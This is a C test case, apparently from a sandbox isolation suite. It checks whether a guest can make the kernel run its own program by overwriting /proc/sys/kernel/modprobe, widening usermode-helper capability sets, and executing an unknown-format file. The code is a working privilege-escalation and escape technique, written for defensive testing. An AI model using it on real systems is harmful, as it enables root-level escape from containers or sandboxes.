/* Has the kernel run a program of the guest in place of modprobe (kernel.modprobe in sysctl/kernel.rst). */
#include "common/attack.h"

static void attempt(void) {
    put("/proc/sys/kernel/modprobe", own("helper"));
    put("/proc/sys/kernel/modules_disabled", "1");
    put("/proc/sys/kernel/usermodehelper/bset", "4294967295 4294967295");
    put("/proc/sys/kernel/usermodehelper/inheritable", "4294967295 4294967295");
    /* A file of no known format makes the kernel look for a module. */
    int file = open(own("strange"), O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
    TRY(write(file, "\xff\xfe\xfd\xfc", 4));
    close(file);
    if (fork() == 0) {
        execl(own("strange"), "strange", NULL);
        _exit(1);
    }
    wait(NULL);
}
